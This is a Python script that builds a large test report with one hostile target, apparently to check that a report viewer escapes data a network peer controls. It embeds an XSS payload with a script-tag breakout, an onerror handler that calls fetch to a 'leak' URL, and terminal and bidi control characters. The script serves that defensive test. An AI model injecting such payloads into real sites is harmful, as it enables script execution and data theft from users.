"""A report that is as large as they get, out of a small one: 30 targets of 3,500 cases, one of them hostile.

Usage: make.py REPORT TARGETS CASES > LARGE
"""

import copy
import json
import sys

EVIL = (
    "</script><script>window.pwned=1;document.title='pwned'</script>"
    "<img src=x onerror=\"window.pwned=2;fetch('http://127.0.0.1:9/leak')\"><!-- <script> \u0000\u0001\u001b[31m\u202e"
)


def hostile(target):
    """Script and control characters wherever a peer has a say."""
    target["name"] = "hostile " + EVIL
    target["probe"]["server"] = EVIL
    head = ("HTTP/1.1 101 X\r\nServer: " + EVIL + "\r\n\r\n").encode()
    text = EVIL.encode()
    frame = b"\x81\x7e" + len(text).to_bytes(2, "big") + text
    for case in target["cases"][:20]:
        case.update(verdict="fail", reason=EVIL, received=EVIL, expected=EVIL, sent=EVIL)
        case["close"] = {"code": 1000, "reason": EVIL, "clean": True}
        entries = [("suite", "bytes", b"GET / HTTP/1.1\r\nHost: x\r\n\r\n".hex()), ("target", "bytes", (head + frame).hex())]
        case["transcript"] = {
            "target_role": "server",
            "entries": [{"at_us": i, "who": who, "what": what, "data": data} for i, (who, what, data) in enumerate(entries)]
            + [{"at_us": 9, "who": "target", "what": "rst"}],
        }


def main():
    report = json.load(open(sys.argv[1]))
    count, size = int(sys.argv[2]), int(sys.argv[3])
    first = report["targets"][0]
    missing = size - len(first["cases"])
    for case in copy.deepcopy(first["cases"][: max(missing, 0)]):
        case["id"] += "-again"
        first["cases"].append(case)
    first["cases"].sort(key=lambda case: case["id"])
    targets = [copy.deepcopy(first) for _ in range(count)]
    for i, target in enumerate(targets):
        target["name"] = f"target {i}"
    hostile(targets[0])
    report["targets"] = targets
    json.dump(report, sys.stdout)


main()
